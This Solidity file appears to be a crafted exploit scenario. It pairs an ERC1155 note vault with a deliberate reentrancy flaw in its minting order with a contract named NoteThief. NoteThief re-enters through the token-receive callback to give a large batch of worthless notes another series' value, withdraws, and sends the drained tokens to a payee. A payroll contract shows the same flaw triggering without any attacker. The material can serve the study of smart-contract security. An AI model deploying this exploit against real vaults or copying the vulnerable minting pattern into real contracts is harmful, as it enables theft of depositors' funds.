// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {ERC1155} from "@openzeppelin/contracts/token/ERC1155/ERC1155.sol";
import {ERC1155Holder} from "@openzeppelin/contracts/token/ERC1155/utils/ERC1155Holder.sol";
import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// The notes themselves. A number counts as given only after its notes were minted.
contract NoteHandler is ERC1155 {
    address public immutable vault = msg.sender;
    uint256 public nextId = 1;
    mapping(uint256 => uint256) public supply;

    constructor() ERC1155("") {}

    function mint(address to, uint256 quantity) external returns (uint256 id) {
        require(msg.sender == vault, "not the vault");
        id = nextId;
        supply[id] += quantity;
        _mint(to, id, quantity, "");
        nextId = id + 1;
    }

    function burn(address from, uint256 id, uint256 quantity) external {
        require(msg.sender == vault, "not the vault");
        supply[id] -= quantity;
        _burn(from, id, quantity);
    }
}

/// Locks tokens into notes, each worth the same part of what its series holds.
contract NoteVault {
    struct Series {
        Token asset;
        uint256 perNote;
        uint256 unlock;
    }

    NoteHandler public immutable handler = new NoteHandler();
    mapping(uint256 => Series) public seriesOf;

    event NoteMinted(address indexed asset, address indexed from, uint256 indexed id, uint256 quantity, uint256 perNote);
    event NoteAddition(address indexed from, uint256 indexed id, uint256 indexed newId, uint256 quantity, uint256 amount);
    event NoteWithdrawn(address indexed from, uint256 indexed id, uint256 quantity);

    function lock(Token asset, uint256 perNote, uint256 quantity, uint256 unlock) external returns (uint256 id) {
        id = handler.nextId();
        seriesOf[id] = Series(asset, perNote, unlock);
        if (perNote > 0) asset.transferFrom(msg.sender, address(this), perNote * quantity);
        handler.mint(msg.sender, quantity);
        emit NoteMinted(address(asset), msg.sender, id, quantity, perNote);
    }

    /// Puts more into some notes; if those are not the whole series they become a new one.
    function depositAdditional(uint256 id, uint256 amount, uint256 quantity) external returns (uint256 newId) {
        Series memory series = seriesOf[id];
        series.asset.transferFrom(msg.sender, address(this), amount * quantity);
        newId = id;
        if (quantity < handler.supply(id)) {
            newId = handler.nextId();
            handler.burn(msg.sender, id, quantity);
            seriesOf[newId] = Series(series.asset, series.perNote + amount, series.unlock);
            handler.mint(msg.sender, quantity);
        } else {
            seriesOf[id].perNote += amount;
        }
        emit NoteAddition(msg.sender, id, newId, quantity, amount);
    }

    function withdraw(uint256 id, uint256 quantity) external {
        Series memory series = seriesOf[id];
        require(block.timestamp >= series.unlock, "locked");
        handler.burn(msg.sender, id, quantity);
        series.asset.transfer(msg.sender, series.perNote * quantity);
        emit NoteWithdrawn(msg.sender, id, quantity);
    }

    /// What notes promise of an asset beyond what is here.
    function missing(Token asset) external view returns (uint256) {
        uint256 owed = 0;
        for (uint256 id = 1; id < handler.nextId(); id++) {
            if (seriesOf[id].asset == asset) owed += seriesOf[id].perNote * handler.supply(id);
        }
        uint256 held = asset.balanceOf(address(this));
        return owed > held ? owed - held : 0;
    }
}

/// Mints many worthless notes, and from within makes their series another one's.
contract NoteThief is ERC1155Holder {
    NoteVault private vault;
    uint256 private seed;
    uint256 private worth;
    bool private armed;

    /// The coins buy what one note is worth.
    function run(NoteVault vault_, Token asset, Pool pool, uint256 quantity, uint256 worth_, address payee)
        external
        payable
    {
        (vault, worth) = (vault_, worth_);
        Shop.buy(pool, msg.value);
        asset.approve(address(vault_), type(uint256).max);
        seed = vault_.lock(asset, 0, 2, 0);
        armed = true;
        uint256 id = vault_.lock(asset, 0, quantity, 0);
        vault_.withdraw(id, quantity);
        asset.transfer(payee, asset.balanceOf(address(this)));
    }

    function onERC1155Received(address a, address b, uint256 id, uint256 value, bytes memory data)
        public
        override
        returns (bytes4)
    {
        if (armed) {
            armed = false;
            vault.depositAdditional(seed, worth, 1);
        }
        return super.onERC1155Received(a, b, id, value, data);
    }
}

/// Locks a payroll in notes, and adds a bonus to last month's whole series while the new notes arrive.
contract NotePayroll is ERC1155Holder {
    address private immutable owner = msg.sender;
    NoteVault private immutable vault;
    Token private immutable asset;
    uint256 public lastId;
    uint256 public lastQuantity;
    uint256 public bonus;

    constructor(NoteVault vault_, Token asset_) {
        (vault, asset) = (vault_, asset_);
        asset_.approve(address(vault_), type(uint256).max);
    }

    function month(uint256 perNote, uint256 quantity, uint256 bonus_) external {
        require(msg.sender == owner, "not the owner");
        bonus = bonus_;
        uint256 id = vault.lock(asset, perNote, quantity, 0);
        (lastId, lastQuantity) = (id, quantity);
    }

    function leave(uint256 id, uint256 quantity) external {
        require(msg.sender == owner, "not the owner");
        vault.withdraw(id, quantity);
        asset.transfer(owner, asset.balanceOf(address(this)));
    }

    function onERC1155Received(address a, address b, uint256 id, uint256 value, bytes memory data)
        public
        override
        returns (bytes4)
    {
        if (lastId != 0 && bonus > 0) vault.depositAdditional(lastId, bonus, lastQuantity);
        return super.onERC1155Received(a, b, id, value, data);
    }
}
